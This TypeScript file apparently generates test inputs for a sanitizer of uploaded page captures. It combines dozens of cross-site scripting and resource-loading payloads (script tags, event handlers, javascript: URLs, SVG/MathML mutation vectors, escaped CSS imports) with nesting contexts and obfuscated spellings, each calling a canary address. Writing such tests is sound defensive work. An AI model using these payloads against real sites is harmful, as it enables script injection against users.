/*
 * Captures that a hostile recorder would upload: script and addresses in every known place, wrapped and spelled so that
 * parsers disagree about them. Everything that runs or loads asks for `canary`.
 */

const js = (canary: string) => `(new Image).src='${canary}run';fetch('${canary}run')`

/** Attacks by themselves. */
const attacks: readonly ((canary: string) => string)[] = [
  (c) => `<script>${js(c)}</script>`,
  (c) => `<script src="${c}s.js"></script>`,
  (c) => `<script type="module">import "${c}m.js"</script>`,
  (c) =>
    `<script type="importmap">{"imports":{"a":"${c}a"}}</script><script type="speculationrules">{"prefetch":[{"urls":["${c}p"]}]}</script>`,
  (c) => `<img src="${c}img" onerror="${js(c)}">`,
  (c) => `<img src=x onerror=${JSON.stringify(js(c))}>`,
  (c) => `<img srcset="${c}a 1x, ${c}b 2x" sizes="100vw">`,
  (c) => `<picture><source srcset="${c}src"><img></picture>`,
  (c) => `<body onload="${js(c)}" background="${c}bg">`,
  (c) => `<svg onload="${js(c)}"><script>${js(c)}</script></svg>`,
  (c) => `<svg><script href="${c}s.js"/><use href="${c}u.svg#x"/><image href="${c}i.png"/></svg>`,
  (c) =>
    `<svg><animate onbegin="${js(c)}" attributeName="x" dur="1s"/><set attributeName="href" to="javascript:${js(c)}"/></svg>`,
  (c) => `<svg><a xlink:href="javascript:${js(c)}"><text>x</text></a><feImage href="${c}fe"/></svg>`,
  (c) => `<svg><foreignObject><iframe src="javascript:${js(c)}"></iframe></foreignObject></svg>`,
  (c) =>
    `<svg><style>@import "${c}svg.css"; *{fill:url(${c}f#x)}</style><rect fill="url(${c}r#x)" width="9" height="9"/></svg>`,
  (c) =>
    `<svg><filter id="f"><feImage xlink:href="${c}fx"/></filter><rect style="filter:url(#f)" width="9" height="9"/></svg>`,
  (c) =>
    `<math><mtext><table><mglyph><style><img src="${c}m" onerror="${js(c)}"></style></mglyph></table></mtext></math>`,
  (c) =>
    `<math href="javascript:${js(c)}"><annotation-xml encoding="text/html"><img src="${c}an"></annotation-xml></math>`,
  (c) => `<iframe src="${c}frame"></iframe>`,
  (c) => `<iframe src="javascript:${js(c)}"></iframe>`,
  (c) => `<iframe srcdoc="&lt;script&gt;${js(c)}&lt;/script&gt;&lt;img src='${c}sd'&gt;"></iframe>`,
  (c) =>
    `<iframe srcdoc="&lt;iframe srcdoc=&quot;&amp;lt;img src='${c}dd' onerror=1&amp;gt;&quot;&gt;&lt;/iframe&gt;"></iframe>`,
  (c) => `<object data="${c}obj"></object><embed src="${c}emb"><applet code="${c}app"></applet>`,
  (c) => `<meta http-equiv="refresh" content="0;url=${c}refresh">`,
  (c) => `<meta http-equiv="Content-Security-Policy" content="img-src *"><img src="${c}csp">`,
  (c) => `<base href="${c}"><img src="rel.png"><link rel="stylesheet" href="rel.css">`,
  (c) =>
    `<link rel="stylesheet" href="${c}l.css"><link rel="preload" as="image" href="${c}pre"><link rel="prefetch" href="${c}pf">`,
  (c) =>
    `<link rel="icon" href="${c}icon"><link rel="manifest" href="${c}man"><link rel="modulepreload" href="${c}mp">`,
  (c) => `<style>@import url(${c}imp.css);@import "${c}imp2.css" screen;*{background:url("${c}bg")}</style>`,
  (c) =>
    `<style>@\\69mport "${c}esc.css"; p{background:u\\72l(${c}u)} p{background-image:image-set("${c}is" 1x)}</style><p>x</p>`,
  (c) =>
    `<style>@font-face{font-family:x;src:url(${c}font)} body{font-family:x} p{--v:"${c}var";background:image-set(var(--v) 1x);cursor:url(${c}cur),auto}</style><p>x</p>`,
  (c) => `<style></style><img src="${c}afterstyle" onerror="${js(c)}"></style>`,
  (c) => `<style><!--</style><img src="${c}cm" onerror="${js(c)}">--></style>`,
  (c) => `<p style="background:url(${c}inl);list-style:url('${c}ls')">x</p>`,
  (c) => `<p style="background:/*&quot;*/url(${c}cq)">x</p><p style='background:url(&#34;${c}ent&#34;)'>x</p>`,
  (c) =>
    `<form action="${c}form"><input autofocus onfocus="${js(c)}"><button formaction="${c}fa">go</button><input type="image" src="${c}ii"></form>`,
  (c) =>
    `<video src="${c}v" poster="${c}poster" autoplay><source src="${c}vs"><track src="${c}t" default></video><audio src="${c}a" autoplay></audio>`,
  (c) => `<details open ontoggle="${js(c)}"><summary>x</summary></details><marquee onstart="${js(c)}">x</marquee>`,
  (c) => `<a href="javascript:${js(c)}" ping="${c}ping" autofocus onfocus="${js(c)}">x</a>`,
  (c) => `<table background="${c}tb"><tr><td background="${c}td">x</td></tr></table>`,
  (c) => `<template shadowrootmode="open"><script>${js(c)}</script><img src="${c}sh" onerror="${js(c)}"></template>`,
  (c) =>
    `<div><template shadowrootmode="open"><style>@import "${c}shi";:host{background:url(${c}host)}</style><slot></slot></template></div>`,
  (c) =>
    `<template><img src="${c}tpl"></template><noscript><img src="${c}ns"></noscript><noscript><p title="</noscript><img src=${c}ns2 onerror=1>"></noscript>`,
  (c) => `<xmp><img src="${c}xmp"></xmp><plaintext><img src="${c}pt">`,
  (c) => `<textarea></textarea><img src="${c}ta"></textarea><title></title><img src="${c}ti"></title>`,
  (c) => `<select><template><img src="${c}se"></template><option><script>${js(c)}</script></select>`,
  (c) => `<frameset onload="${js(c)}"><frame src="${c}fr"></frameset>`,
  (c) => `<portal src="${c}po"></portal><fencedframe src="${c}ff"></fencedframe>`,
  (c) => `<div style="behavior:url(${c}beh);-moz-binding:url(${c}moz)"></div><img dynsrc="${c}dyn" lowsrc="${c}low">`,
  (c) => `<!--><img src="${c}c1"> --!><img src="${c}c2"><![CDATA[<img src="${c}cd">]]>`,
  (c) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=${c}mx onerror=1>">`,
  (c) => `<svg></p><style><a id="</style><img src=${c}sv onerror=1>">`,
  (c) => `<math><annotation-xml encoding="text/html"><style><!--</style><img title="--><img src=${c}ax onerror=1>">`,
  (c) =>
    `<svg><desc><style><img src="${c}de" onerror="${js(c)}"></style></desc><title><img src="${c}st"></title></svg>`,
  (c) =>
    `<input type="hidden" value="secret" onbeforecopy="${js(c)}"><x-y onpointerrawupdate="${js(c)}" style="animation:a 1s" onanimationstart="${js(c)}"></x-y><style>@keyframes a{}</style>`,
  (c) => `<p attributionsrc="${c}at"></p><img attributionsrc="${c}ai" src="${c}as" crossorigin loading="eager">`,
]

/** Places that parsers treat in their own way. */
const places: readonly ((attack: string) => string)[] = [
  (a) => a,
  (a) => `<!DOCTYPE html><html><head>${a}</head><body>${a}</body></html>`,
  (a) => `<table><tr>${a}<td>${a}</table>`,
  (a) => `<svg>${a}</svg>`,
  (a) => `<svg><desc>${a}</desc><foreignObject>${a}</foreignObject></svg>`,
  (a) => `<math><mi>${a}</mi></math>`,
  (a) => `<template>${a}</template><template shadowrootmode="open">${a}</template>`,
  (a) => `<div><template shadowrootmode="closed"><p>${a}</template></div>`,
  (a) => `<a><p><b>${a}<a>${a}</b></p></a>`,
  (a) => `<select><option>${a}</option></select>`,
  (a) => `<iframe srcdoc="${a.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`,
  (a) => `<noscript>${a}</noscript><style>${a}</style>`,
]

const spellings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\/?)(\w+)/g, (_, slash: string, name: string) => `<${slash}${name.toUpperCase()}`),
  (text) => text.replace(/ (on\w+|src|href|style)=/g, '/$1\n=\t'),
  (text) => text.replace(/ (on\w+|src|href)="/g, ' $1 x=1 $1="'),
  (text) => text.replaceAll('javascript:', 'java&#9;script&colon;').replaceAll('http://', '&#104;ttp:&#x2f;/'),
  (text) => text.replaceAll('http:', ''),
  (text) => text.replaceAll('<', '<\u0000').replaceAll('<\u0000', '<') + '\u0000<',
]

/** `count` captures, the same for a seed: each attack in each place comes up before spellings repeat. */
export function hostileCaptures(count: number, canary: string, seed = 1): readonly string[] {
  return Array.from({ length: count }, (_, at) => {
    const index = at + seed * 7_919
    const attack = attacks[index % attacks.length] ?? String
    const place = places[Math.floor(index / attacks.length) % places.length] ?? String
    const spell = spellings[Math.floor(index / 5) % spellings.length] ?? String
    return spell(place(attack(canary)))
  })
}
